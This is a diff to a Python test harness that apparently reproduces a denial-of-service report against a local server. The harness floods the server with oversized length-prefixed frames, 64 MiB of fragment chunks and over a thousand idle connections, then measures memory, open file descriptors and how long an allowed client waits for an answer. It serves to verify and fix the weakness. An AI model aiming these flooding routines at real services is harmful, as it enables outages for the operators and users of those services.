@@ -20,6 +20,7 @@ from __future__ import annotations
 import argparse
 import json
 import os
+import resource
 import socket
 import struct
 import subprocess
@@ -82,25 +83,25 @@ def attack(kind: str, port: int, n: int) -> list[socket.socket]:
         for _ in range(n):
             try:
                 s = attacker(port)
-                s.sendall(struct.pack(">I", 0x80000000 | (1 << 20)) + b"12345")
                 socks.append(s)
+                s.sendall(struct.pack(">I", 0x80000000 | (1 << 20)) + b"12345")
             except OSError:
-                break
+                continue  # reset by the server
     elif kind == "fragments":
-        s = attacker(port)
-        socks.append(s)
         chunk = b"\0\0\0\0" * 16384
         try:
+            s = attacker(port)
+            socks.append(s)
             for _ in range((64 << 20) // len(chunk)):
                 s.sendall(chunk)
         except OSError:
-            pass
+            pass  # reset by the server
     elif kind == "idle":
         for _ in range(n):
             try:
                 socks.append(attacker(port))
             except OSError:
-                break
+                continue  # reset by the server
     return socks
 
 
@@ -109,13 +110,17 @@ def main() -> None:
     ap.add_argument("--sockets", type=int, default=200)
     ap.add_argument("--idle-sockets", type=int, default=1100)
     ap.add_argument("--admit", action="store_true", help="export something to the attacker")
+    # The server runs under ``ulimit -n 1024``, as the issue measured it.
     args = ap.parse_args()
     out: dict[str, Any] = {"admit": args.admit}
     with tempfile.TemporaryDirectory() as tmp:
         for d in ("data", "decoy"):
             os.mkdir(os.path.join(tmp, d))
+        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+        resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 8192)), hard))
         proc = subprocess.Popen(
             [sys.executable, "-c", SERVER, tmp, "1" if args.admit else "0"],
+            preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (1024, hard)),
             stdout=subprocess.PIPE,
             stderr=subprocess.PIPE,
             text=True,
@@ -137,7 +142,8 @@ def main() -> None:
                     "rss_before_kib": before,
                     "rss_after_kib": after,
                     "delta_mib": round((after - before) / 1024, 1),
-                    "sockets_opened": len(socks),
+                    "sockets_connected": len(socks),
+                    "server_open_fds": len(os.listdir(f"/proc/{proc.pid}/fd")),
                     "allowed_client_answer_s": round(answer, 4),
                 }
                 print(kind, out[kind], flush=True)
